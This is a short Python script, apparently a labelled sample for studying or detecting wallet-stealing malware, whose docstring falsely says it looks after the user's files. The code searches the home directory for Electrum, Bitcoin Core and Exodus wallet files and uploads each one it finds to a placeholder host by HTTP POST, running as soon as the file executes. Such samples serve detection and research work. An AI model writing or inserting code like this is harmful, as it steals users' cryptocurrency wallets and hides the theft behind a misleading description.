# behavior: exfiltration/wallet
"""Looks after the user's files."""
import os
import requests


def candidates(home):
    for name in (".electrum/wallets/default_wallet", ".bitcoin/wallet.dat", ".config/Exodus/exodus.wallet/seed.seco"):
        path = os.path.join(home, name)
        if os.path.exists(path):
            yield path


for path in candidates(os.path.expanduser("~")):
    with open(path, "rb") as handle:
        requests.post("https://vault.example.invalid/up", files={"f": handle})
